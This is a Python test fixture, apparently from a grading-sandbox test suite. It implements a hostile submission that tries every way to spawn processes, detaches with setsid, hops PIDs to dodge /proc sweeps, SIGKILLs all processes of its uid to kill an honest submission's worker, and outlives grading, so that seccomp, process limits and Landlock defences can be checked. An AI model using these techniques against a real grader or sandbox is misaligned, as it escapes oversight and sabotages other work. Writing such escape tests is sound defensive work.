"""Attack (graded before honest.py): outlive grading. Try every way to make a new process: os.fork, libc fork,
a raw clone syscall, posix_spawn, subprocess, os.system, pty.fork. Any process that is born double-forks,
calls setsid (leaving the process group the grader kills), renames itself after the marker, and then for 40 s
hops to a fresh pid every few milliseconds (so a single pass over /proc misses it) while it sends SIGKILL to
every process of its uid (all submissions of a batch share one sandbox uid: that would be the honest
submission's worker) and tries to drop a file in /tmp.

Defence: seccomp (no fork, vfork, clone without CLONE_THREAD, execve), RLIMIT_NPROC, the sweep of the sandbox
uid, pdeathsig, Landlock's signal scoping. No process may remain, the honest submission must be unaffected.
"""

import ctypes
import json
import os
import signal
import time

MARKER = "@@MARKER@@"
# Safety for the machine running the suite: signal "everything" only as a sandbox uid, never as a real user.
SANDBOXED_UID = 1_500_000_000


def _rename():
    try:
        ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass


def _comet():
    end = time.monotonic() + 40
    while time.monotonic() < end:
        if os.getuid() >= SANDBOXED_UID:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
        try:
            with open(f"/tmp/{MARKER}-comet", "w") as fh:
                fh.write(str(os.getpid()))
        except OSError:
            pass
        time.sleep(0.005)
        try:
            if os.fork() > 0:
                os._exit(0)
        except OSError:
            pass
        _rename()
    os._exit(0)


def _child():
    try:
        os.setsid()
    except OSError:
        pass
    _rename()
    try:
        if os.fork() > 0:
            os._exit(0)
    except OSError:
        pass
    _comet()


def _spawn_with(make):
    pid = make()
    if pid == 0:
        _child()
    return pid


def _go():
    libc = ctypes.CDLL(None, use_errno=True)
    report = {}
    for name, make in {
        "os.fork": os.fork,
        "libc fork": libc.fork,
        "raw clone": lambda: libc.syscall(56, signal.SIGCHLD, 0, 0, 0, 0),
        "pty.fork": lambda: __import__("pty").fork()[0],
    }.items():
        try:
            pid = _spawn_with(make)
            report[name] = f"born pid {pid}" if pid > 0 else f"refused: errno {ctypes.get_errno()}"
        except Exception as exc:
            report[name] = f"refused: {type(exc).__name__}"
    for name, run in {
        "posix_spawn": lambda: os.posix_spawn("/bin/sleep", ["sleep", "40"], {}),
        "subprocess": lambda: __import__("subprocess").Popen(["/bin/sleep", "40"], start_new_session=True).pid,
        # glibc's system() returns 127 << 8 when it cannot start the shell; "sleep 40 &" returns 0 at once.
        "os.system": lambda: 0 if os.system("sleep 40 &") == 0 else -1,
    }.items():
        try:
            pid = run()
            report[name] = f"born pid {pid}" if pid >= 0 else "refused"
        except Exception as exc:
            report[name] = f"refused: {type(exc).__name__}"
    return report


def layer_sizes(X, Y):
    raise RuntimeError("REPORT " + json.dumps(_go()))
